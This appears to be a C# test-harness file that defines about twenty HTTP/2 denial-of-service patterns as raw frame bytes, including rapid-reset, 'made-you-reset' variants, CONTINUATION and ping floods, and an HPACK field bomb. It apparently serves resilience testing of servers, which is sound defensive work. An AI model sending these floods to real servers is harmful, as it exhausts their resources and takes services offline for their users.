using static Gatehouse.Testing.Http2.RawFrames;

namespace Gatehouse.Testing.Http2;

/// <summary>A way to make an HTTP/2 server work for nothing, in bytes.</summary>
/// <param name="Name">What it is called.</param>
/// <param name="Opening">Sent once, behind the preface and the settings.</param>
/// <param name="Round">Sent again and again; given the number of the round, counted from 0.</param>
/// <param name="Reads">Whether the client takes what it is sent.</param>
public sealed record Http2Attack(string Name, byte[] Opening, Func<int, byte[]> Round, bool Reads = true)
{
    /// <summary>The largest value that one step of the table can take: 4,000 bytes of one field.</summary>
    private static readonly byte[] Large = [0x40, 1, (byte)'x', 0x7f, 0xa1, 0x1e, .. Enumerable.Repeat((byte)'v', 4000)];

    public static IReadOnlyList<Http2Attack> All { get; } =
    [
        new("rapid-reset", [], r => [.. Get(Stream(r)), .. Reset(Stream(r))]),
        new("made-you-reset-window", [], r => [.. Get(Stream(r)), .. Window(Stream(r), int.MaxValue)]),
        new("made-you-reset-zero-window", [], r => [.. Get(Stream(r)), .. Window(Stream(r), 0)]),
        new("made-you-reset-headers", [], r => [.. Get(Stream(r)), .. Get(Stream(r))]),
        new("made-you-reset-data", [], r => [.. Get(Stream(r)), .. Frame(Data, 0, Stream(r), "x"u8)]),
        new("made-you-reset-priority", [], r => [.. Get(Stream(r)), .. Frame(Priority, 0, Stream(r), [0, 0, 0, .. LastByte(Stream(r)), 16])]),
        new("continuation", Frame(Headers, EndOfStream, 1, GetBlock), _ => Frame(Continuation, 0, 1, [])),
        new("continuation-of-fields", Frame(Headers, EndOfStream, 1, GetBlock), r => Frame(Continuation, 0, 1, Field($"x{r}", "v"))),
        new("ping", [], _ => Frame(Ping, 0, 0, new byte[8])),
        new("ping-unread", [], _ => Frame(Ping, 0, 0, new byte[8]), Reads: false),
        new("settings", [], r => Setting(4, 65_535 + (r % 2))),
        new("settings-of-open-streams", [.. Enumerable.Range(0, 100).SelectMany(r => Post(Stream(r)))], r => Setting(4, 65_535 + (r % 2))),
        new("empty-data", Post(1), _ => Frame(Data, 0, 1, [])),
        new("padding", Post(1), _ => Frame(Data, Padded, 1, [255, .. new byte[255]])),
        new("priority", [], _ => Frame(Priority, 0, 1, [0, 0, 0, 0, 16])),
        new("window-dribble", [], _ => Window(0, 1)),
        new("unknown-frames", [], _ => Frame(0xee, 0, 0, [])),
        new("empty-headers", [], r => Frame(Headers, EndOfStream | EndOfHeaders, Stream(r), [])),
        new("too-many-streams", [], r => Post(Stream(r))),
        new("field-bomb", Frame(Headers, EndOfStream | EndOfHeaders, 1, [.. GetBlock, .. Large]), r => Frame(Headers, EndOfStream | EndOfHeaders, Stream(r + 1), [.. GetBlock, .. Enumerable.Repeat((byte)0xbe, 4000)])),
    ];

    /// <summary>Between two writes.</summary>
    public TimeSpan Pause { get; init; }

    /// <summary>After so many rounds it is quiet.</summary>
    public long MostRounds { get; init; } = long.MaxValue;

    public override string ToString() => Name;

    private static int Stream(int round) => (2 * round) + 1;

    // The dependency is the stream itself; enough for the first rounds, which is all that a server looks at.
    private static byte[] LastByte(int stream) => [(byte)stream];
}
